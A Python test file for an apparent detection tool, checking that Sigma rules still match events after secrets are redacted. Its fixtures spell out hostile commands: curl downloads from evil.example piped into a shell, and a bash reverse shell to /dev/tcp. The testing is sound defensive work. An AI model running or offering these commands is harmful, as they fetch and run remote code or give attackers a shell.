"""The shipped rules find what they found, on events that were redacted."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from tocsin.collector.redaction import Redactor
from tocsin.model.errors import BadEvent
from tocsin.sigma.authoring.replay import Replay
from tocsin.sigma.ruleset import RuleSet
from tocsin.sigma.syntax.documents import Rule

_PACK = Path(__file__).resolve().parents[4] / "policies" / "rules"


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return RuleSet.load({str(path.relative_to(_PACK)): path.read_bytes() for path in sorted(_PACK.rglob("*.yml"))})


def _events(pack: RuleSet) -> Iterator[dict[str, Any]]:
    """Those of all tests that rules and correlations carry."""
    for each in (*pack.rules, *pack.correlations):
        for test in each.tests:
            yield from [test["event"]] if isinstance(each, Rule) else (part["event"] for part in test["events"])


def _found(pack: RuleSet, line: bytes) -> list[str]:
    try:
        return sorted(hit.rule.name for hit in Replay(pack, ()).feed(line).hits.hits)
    except BadEvent as error:
        return [str(error)]


def test_the_same_rules_match_every_event_of_their_tests(pack: RuleSet) -> None:
    redactor, events, changed = Redactor(), 0, 0
    for event in _events(pack):
        line = msgspec.json.encode({"time": "2026-01-01T00:00:00Z", "node_name": "node-1", **event})
        redacted = redactor.event(line)
        events += 1
        if redacted.count:
            changed += 1
            assert _found(pack, redacted.raw) == _found(pack, line), redacted.raw
        else:
            assert redacted.raw == line
    assert events > 500
    assert 0 < changed < events / 50  # the rules' own evidence is hardly ever taken for a secret


@pytest.mark.parametrize(
    ("name", "binary", "arguments"),
    [
        ("download_to_interpreter", "/bin/sh", '-c "TOKEN=abc123 curl -fsSL http://evil.example/x.sh | sh"'),
        ("download_to_interpreter", "/bin/sh", '-c "curl -u me:abc123 http://evil.example/x.sh | bash"'),
        ("download_to_interpreter", "/bin/sh", "-c \"curl -H 'Authorization: Bearer abc123' http://evil/x | sh\""),
        ("reverse_shell", "/bin/bash", '-c "PASSWORD=abc123; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'),
    ],
)
def test_a_rule_matches_beside_a_secret(pack: RuleSet, name: str, binary: str, arguments: str) -> None:
    pod = {"namespace": "a", "name": "b", "container": {"id": "containerd://1", "name": "c"}}
    process = {"binary": binary, "arguments": arguments, "pod": pod}
    line = msgspec.json.encode({"process_exec": {"process": process, "parent": {"binary": "/app"}}, "node_name": "n"})
    redacted = Redactor().event(line)
    assert redacted.count == 1
    assert b"abc123" not in redacted.raw
    assert name in _found(pack, line)
    assert _found(pack, redacted.raw) == _found(pack, line)
